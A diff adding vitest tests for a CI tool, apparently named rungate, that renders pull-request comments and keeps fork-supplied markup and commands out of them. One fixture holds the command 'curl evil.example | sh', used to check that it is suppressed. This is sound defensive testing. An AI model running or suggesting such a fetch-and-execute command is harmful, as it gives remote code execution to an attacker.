@@ -1,7 +1,17 @@
 import { describe, expect, test } from "vitest";
+import { limits } from "../../src/core/limits.ts";
+import type { Problem } from "../../src/core/problems.ts";
 import { conclude } from "../../src/gate/decide/verdict.ts";
 import type { Report } from "../../src/report/report.ts";
-import { commentRefusedView, commentView, readMarker, summaryView } from "../../src/views/comment.ts";
+import { version } from "../../src/version.ts";
+import {
+  commentRefusedView,
+  commentView,
+  conclusionView,
+  problemsView,
+  readMarker,
+  summaryView,
+} from "../../src/views/comment.ts";
 import { onPullRequest, place, settings, withHistory, withSettings } from "./pull-request.ts";
 import { linesOf } from "./scenarios.ts";
 import { manyScorers } from "./texted.ts";
@@ -168,4 +178,108 @@ describe("the trend", () => {
   test("shows the newest forty", () => {
     expect(trendOf(Array.from({ length: 90 }, () => 1))).toContain("over 39 commits and this change");
   });
+});
+
+const report = () => onPullRequest(against({}, {}));
+
+test("a comment says whose word it is, below its headline and below what a run of our own says", () => {
+  const own = commentView(report(), place).text;
+  const forks = commentView(report(), { ...place, reporter: "the fork of mallory" }).text;
+  expect(own).not.toContain("reported by");
+  const [, headline, , word] = forks.split("\n");
+  expect(headline).toMatch(/^### ✅ rungate: /);
+  expect(word).toBe("This is reported by the fork of mallory.");
+  const without = forks
+    .replace(/\n\n<sub>reported by the fork of mallory: .*$/, "")
+    .replace("\n\nThis is reported by the fork of mallory.", "")
+    .replace(", reported by the fork of mallory", "");
+  expect(without).toBe(own);
+});
+
+test("shows no command that a fork's report brings with it", () => {
+  const whole = report();
+  const plan = { reason: "p = .13", cases: 3, trials: 1, command: "curl evil.example | sh" };
+  const doubtful: Report = { ...whole, verdict: { ...whole.verdict, result: "inconclusive" }, plan };
+  expect(commentView(doubtful, place).text).toContain("curl evil.example");
+  expect(commentView(doubtful, { ...place, reporter: "the fork of mallory" }).text).not.toContain("curl");
+});
+
+test("no report is long enough to leave that out", () => {
+  const check = {
+    name: "budgets",
+    title: "x",
+    message: "",
+    result: "pass",
+    numbers: {},
+  } as const;
+  const checks = Array.from({ length: 20_000 }, () => ({ ...check }));
+  const whole = report();
+  const body = commentView(
+    { ...whole, verdict: { ...whole.verdict, checks } },
+    { ...place, reporter: "the fork of mallory" },
+  ).text;
+  expect(body.length).toBeLessThanOrEqual(limits.commentCharacters);
+  expect(body).toContain("Left out because there is no room");
+  expect(body).toMatch(/<sub>reported by the fork of mallory: [^<]*<\/sub>$/);
+});
+
+test("how a run ended is told with its reason, which is text and nothing else", () => {
+  const why = "its report is <!-- rungate suite=default run=9 --> @octo #1\n## not Markdown";
+  const body = conclusionView(
+    { suite: "booking", ending: "failed", commit: "a".repeat(40), why },
+    place,
+  ).text;
+  expect(body.split("\n").slice(0, 4)).toEqual([
+    "<!-- rungate suite=booking run=4711 -->",
+    "### ❌ rungate: the run failed · booking",
+    "",
+    expect.stringMatching(/^No numbers: its report is &#60;!-- rungate/),
+  ]);
+  expect(body).not.toMatch(/^## |@octo| #1/m);
+  expect(body).toContain(`[job](${place.job})`);
+});
+
+const problem = (message: string, line: number): Problem => ({
+  severity: "error",
+  file: "e.yml",
+  line,
+  message,
+});
+
+test("configuration problems are told on the first line and one by one", () => {
+  const text = problemsView(
+    { problems: [problem("unknown key <b>", 3), problem("no id", 5)], subject: "Configuration" },
+    1_000,
+  ).text;
+  expect(text).toBe(
+    [
+      "### ❌ rungate: configuration cannot be used",
+      "",
+      "Configuration: e.yml&#58;3: unknown key &#60;b&#62; (and 1 more)",
+      "",
+      "rungate judged nothing, so the check does not pass.",
+      "",
+      "- <code>e.yml&#58;3: unknown key &#60;b&#62;</code>",
+      "- <code>e.yml&#58;5: no id</code>",
+      "",
+    ].join("\n"),
+  );
+});
+
+test("more problems than there is room for are counted", () => {
+  const many = Array.from({ length: 60 }, (_, at) => problem("\u202e".repeat(400), at + 1));
+  const text = problemsView({ problems: many, subject: "Configuration" }, 65_536).text;
+  expect(text.length).toBeLessThanOrEqual(65_536);
+  expect(text).toMatch(/^- … and \d+ more problems$/m);
+  expect(text).toContain("(and 59 more)");
+});
+
+test("a comment says what was to be judged, and where to read on", () => {
+  const commit = "5f0c7d1e9a34b2c68d7f01e2a3b4c5d6e7f80912";
+  const repository = "https://github.com/acme/agent";
+  const error = { problems: [problem("no id", 5)], subject: "Configuration" };
+  const { text } = problemsView(error, 1_000, { commit, repository, job: `${repository}/actions/runs/7` });
+  expect(text.trimEnd().split("\n").at(-1)).toBe(
+    `<sub>head [<code>5f0c7d1</code>](${repository}/commit/${commit}) · rungate ${version} · [job](${repository}/actions/runs/7)</sub>`,
+  );
 });
